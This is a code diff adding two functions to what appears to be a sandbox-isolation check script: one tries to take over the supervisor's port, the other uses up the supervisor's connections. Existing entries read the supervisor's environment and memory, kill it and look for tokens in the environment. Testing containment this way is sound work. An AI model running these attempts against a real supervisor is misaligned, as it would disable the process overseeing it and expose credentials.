@@ -96,6 +96,58 @@ def supervisor_api(port):
     return f"open: {status}"
 
 
+def takes_port(port):
+    """Listens where the supervisor does, on every address and with every option that may let two sockets share it."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as route:
+        route.connect(tuple(targets["pod"]))
+        pod = route.getsockname()[0]
+    four = ["0.0.0.0", "127.0.0.1", "127.0.0.2", pod]
+    six = ["::", "::1", *(f"::ffff:{address}" for address in four)]
+    ways = [(socket.AF_INET, address, None) for address in four]
+    ways += [(socket.AF_INET6, address, only) for address in six for only in (0, 1)]
+    options = [[], [socket.SO_REUSEADDR], [socket.SO_REUSEPORT], [socket.SO_REUSEADDR, socket.SO_REUSEPORT]]
+    found = [(way[1:], chosen) for way in ways for chosen in options if listens(*way, port, chosen)]
+    if not found:
+        raise PermissionError("every way is refused")
+    return f"open: {found}"
+
+
+def listens(family, address, only_six, port, options):
+    try:
+        with socket.socket(family, socket.SOCK_STREAM) as server:
+            for option in options:
+                server.setsockopt(socket.SOL_SOCKET, option, 1)
+            if only_six is not None:
+                server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, only_six)
+            server.bind((address, port))
+            server.listen()
+    except OSError:
+        return False
+    return True
+
+
+def fills_supervisor(port):
+    """Opens connections from many addresses of the pod, and keeps those that the supervisor keeps."""
+    kept = []
+    for number in range(200):
+        connection = socket.create_connection(("127.0.0.1", port), timeout=2, source_address=(f"127.0.1.{number}", 0))
+        kept.append(connection)
+    for connection in kept:
+        connection.settimeout(0.2)
+    closed = 0
+    for connection in kept[100:]:
+        try:
+            closed += connection.recv(1) == b""
+        except ConnectionResetError:
+            closed += 1
+        except TimeoutError:
+            pass
+        connection.close()
+    if closed == 100:
+        raise PermissionError("the supervisor keeps a few")
+    return f"open: {100 - closed} of the last 100"
+
+
 def secrets_in_environment():
     found = [name for name, value in os.environ.items() if "TOKEN" in name.upper() and "SHA256" not in name.upper()]
     found += [name for name in os.environ if name.endswith("_SERVICE_HOST")]
@@ -133,6 +185,8 @@ ATTEMPTS = {
     "read the supervisor's environment": lambda: reads("/proc/1/environ"),
     "read the supervisor's memory": lambda: reads("/proc/1/mem"),
     "kill the supervisor": kills_supervisor,
+    "listen on the supervisor's port": lambda: takes_port(targets["supervisor_port"]),
+    "use up the supervisor's connections": lambda: fills_supervisor(targets["supervisor_port"]),
     "use the supervisor's API": lambda: supervisor_api(targets["supervisor_port"]),
 }
 
